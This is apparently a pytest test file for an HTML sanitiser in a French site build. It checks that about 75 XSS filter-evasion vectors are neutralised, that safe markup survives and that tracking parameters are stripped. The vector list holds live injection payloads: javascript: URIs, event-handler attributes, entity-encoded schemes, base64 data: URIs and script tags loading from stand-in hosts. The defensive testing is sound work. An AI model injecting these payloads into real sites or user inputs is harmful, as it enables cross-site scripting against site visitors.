"""Sanitising: XSS filter evasion vectors are all neutralised; allowed markup and links survive."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

import cleaning_support  # noqa: F401 (plugins/ on sys.path)
from cleaning.sanitize import ALLOWED_TAGS, safe_source_url, sanitize_html, strip_tracking
from cleaning.typography import typeset_html

# Vectors in the spirit of the OWASP XSS Filter Evasion Cheat Sheet, written out for this test.
XSS_VECTORS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039"
    '&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
    "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
    "&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href="java\x00script:alert(1)">nul</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="&#106;avascript:alert(1)">decimal</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('math')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe src="https://evil.example/"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">div</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">expr</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(2)">go</button></form>',
    "<details open ontoggle=alert(1)>d</details>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><marquee onstart=alert(1)>m</marquee>",
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red">ok</a>',
    "<isindex action=\"javascript:alert(1)\" type=image>",
    '<a href="java&Tab;script:alert(1)">named tab</a>',
]

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "dynsrc", "lowsrc"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def scheme_seen_by_a_browser(value):
    """The URL scheme after entity decoding (done by the parser) and stripping whitespace/controls."""
    compact = re.sub(r"[\x00-\x20\x7f]", "", value)
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", compact)
    return match.group(1).lower() if match else None


def problems(markup):
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    found = []
    for tag, attrs in parser.elements:
        if tag not in ALLOWED_TAGS or tag == "h1":
            found.append(f"element {tag}")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                found.append(f"attribute {name} on {tag}")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = scheme_seen_by_a_browser(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"{name}={value!r} on {tag}")
    if re.search(r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|base|meta|link|form)\b", markup, re.I):
        found.append("dangerous tag in the markup text")
    return found


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector):
    assert problems(sanitize_html(vector)) == []
    # What the build writes: sanitised, then typeset (French, the strictest rewriting).
    assert problems(typeset_html(sanitize_html(f"<p>Avant</p>{vector}<p>Après</p>"), "fr")) == []


def test_there_are_enough_vectors():
    assert len(XSS_VECTORS) >= 40


def test_allowed_markup_survives():
    markup = (
        '<h2 id="contexte">Contexte</h2><p>Un <em>mot</em>, un <strong>autre</strong>, '
        '<abbr title="Intelligence artificielle">IA</abbr>, H<sub>2</sub>O, x<sup>2</sup>, '
        "<del>avant</del> <ins>après</ins>.<br></p>"
        '<p><a href="https://example.com/a" title="Source">lien</a> <a href="mailto:a@example.com">écrire</a> '
        '<a href="/2024/03/page/">interne</a> <a href="#note">note</a></p>'
        '<figure><img src="/images/a.png" alt="Un graphique" title="T" width="640" height="480">'
        "<figcaption>Légende</figcaption></figure>"
        "<ul><li>un</li></ul><ol start=\"3\"><li>trois</li></ol><blockquote><p>Citation</p></blockquote>"
        '<pre><code class="language-python">print(1)</code></pre><hr>'
        "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
    )
    out = sanitize_html(markup)
    for fragment in [
        '<h2 id="contexte">', "<em>mot</em>", "<strong>autre</strong>", '<abbr title="Intelligence artificielle">',
        "<sub>2</sub>", "<sup>2</sup>", "<del>avant</del>", "<ins>après</ins>", "<br>",
        '<a href="https://example.com/a" title="Source" rel="noopener noreferrer">',
        '<a href="mailto:a@example.com">', '<a href="/2024/03/page/">', '<a href="#note">',
        '<img src="/images/a.png" alt="Un graphique" title="T" width="640" height="480">',
        "<figcaption>Légende</figcaption>", '<ol start="3">', "<blockquote>",
        '<code class="language-python">', "<hr>", "<th>A</th>", "<td>1</td>",
    ]:
        assert fragment in out, fragment


def test_body_h1_becomes_h2():
    assert sanitize_html('<h1 id="titre">Titre</h1><p>x</p>') == '<h2 id="titre">Titre</h2><p>x</p>'


def test_only_links_to_another_host_get_rel():
    markup = (
        '<a href="https://other.example/x">a</a><a href="https://www.site.test/x">b</a>'
        '<a href="http://site.test/y">c</a><a href="/z">d</a><a href="//cdn.example/z">e</a>'
        '<a href="mailto:x@site.test">f</a>'
    )
    out = sanitize_html(markup, site_url="https://site.test")
    assert out == (
        '<a href="https://other.example/x" rel="noopener noreferrer">a</a><a href="https://www.site.test/x">b</a>'
        '<a href="http://site.test/y">c</a><a href="/z">d</a>'
        '<a href="//cdn.example/z" rel="noopener noreferrer">e</a><a href="mailto:x@site.test">f</a>'
    )
    # A rel written in the source is replaced, never merged.
    assert sanitize_html('<a href="https://o.example/" rel="opener">x</a>') == (
        '<a href="https://o.example/" rel="noopener noreferrer">x</a>'
    )


def test_tracking_parameters_leave_every_link_and_image():
    markup = (
        '<a href="https://exemple.fr/a?utm_source=nl&amp;id=42&amp;fbclid=x#xtor=RSS-3">a</a>'
        '<img src="/i.png?utm_medium=email&amp;w=2" alt="">'
    )
    out = sanitize_html(markup, site_url="https://exemple.fr")
    assert out == '<a href="https://exemple.fr/a?id=42">a</a><img src="/i.png?w=2" alt="">'


@pytest.mark.parametrize(
    "url, expected",
    [
        ("https://e.fr/a?utm_source=x&utm_medium=y", "https://e.fr/a"),
        ("https://e.fr/a?q=ia&utm_campaign=x&page=2", "https://e.fr/a?q=ia&page=2"),
        ("https://e.fr/a?gclid=1&mc_cid=2&mc_eid=3&ref_src=twsrc&igshid=4&xtor=RSS-1", "https://e.fr/a"),
        ("https://e.fr/a?UTM_Source=x&fbclid=1#section", "https://e.fr/a#section"),
        ("https://e.fr/a#xtor=RSS-3208", "https://e.fr/a"),
        ("https://e.fr/a?q=a%20b&x=1", "https://e.fr/a?q=a%20b&x=1"),
        ("https://e.fr/a", "https://e.fr/a"),
        ("/local?utm_source=x", "/local"),
        ("", ""),
    ],
)
def test_strip_tracking(url, expected):
    assert strip_tracking(url) == expected


@pytest.mark.parametrize(
    "url, expected",
    [
        ("https://e.fr/a?utm_source=x&id=1", "https://e.fr/a?id=1"),
        ("  http://e.fr/a  ", "http://e.fr/a"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html;base64,PHNjcmlwdD4=", None),
        ("vbscript:msgbox(1)", None),
        ("ftp://e.fr/file", None),
        ("//e.fr/a", None),
        ("/relative/path", None),
        ("https://", None),
        ("https://e.fr/a b", None),
        (None, None),
        (42, None),
    ],
)
def test_safe_source_url(url, expected):
    assert safe_source_url(url) == expected


@pytest.mark.parametrize("vector", XSS_VECTORS[:20] + ["<p>a <a href=\"https://x.example/?utm_source=1\">b</a></p>"])
def test_sanitising_is_idempotent(vector):
    once = sanitize_html(vector, site_url="https://site.test")
    assert sanitize_html(once, site_url="https://site.test") == once


def test_rendered_markdown_with_raw_html_is_made_safe():
    from markdown_it import MarkdownIt

    source = (
        "# Titre\n\nUn paragraphe avec un [lien](https://exemple.fr/?utm_source=x) et du "
        "<span onclick=\"alert(1)\">HTML</span>.\n\n<script>alert(1)</script>\n\n"
        "[js](javascript:alert(1))\n\n```html\n<script>alert(1)</script>\n```\n"
    )
    html = MarkdownIt("commonmark", {"html": True}).render(source)
    out = sanitize_html(html)
    assert problems(out) == []
    assert "<h2>Titre</h2>" in out
    assert '<a href="https://exemple.fr/" rel="noopener noreferrer">lien</a>' in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out  # the code sample is shown, not run


def test_sanitised_fixture_page_keeps_its_text_and_loses_its_scripts():
    page = (Path(__file__).parent / "fixtures" / "fr_page.html").read_text(encoding="utf-8")
    out = sanitize_html(page, site_url="https://exemple-actu.fr")
    assert problems(out) == []
    assert "window.tracker" not in out and "<button" not in out
    assert "<h2>La Cnil publie ses recommandations sur l'IA générative</h2>" in out
    assert '<a href="https://exemple-actu.fr/tech/rgpd-ia?id=42">Lire aussi' in out


def test_sanitise_and_typeset_400_kb_as_they_do_its_unit():
    """400 KB of HTML is sanitised and typeset exactly as its unit is, copy after copy: nothing is
    lost or doubled at the seams (the time it takes: python -m benchmarks.hot_paths)."""
    from markdown_it import MarkdownIt

    from cleaning_support import read_post

    body = read_post("clean_fr.md")[1] + read_post("fr_pasted.md")[1]
    html = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(body)
    copies = 400_000 // len(html.encode("utf-8")) + 1
    safe = sanitize_html(html, site_url="https://site.test")
    big = sanitize_html(html * copies, site_url="https://site.test")
    assert big == safe * copies
    assert typeset_html(big, "fr") == typeset_html(safe, "fr") * copies
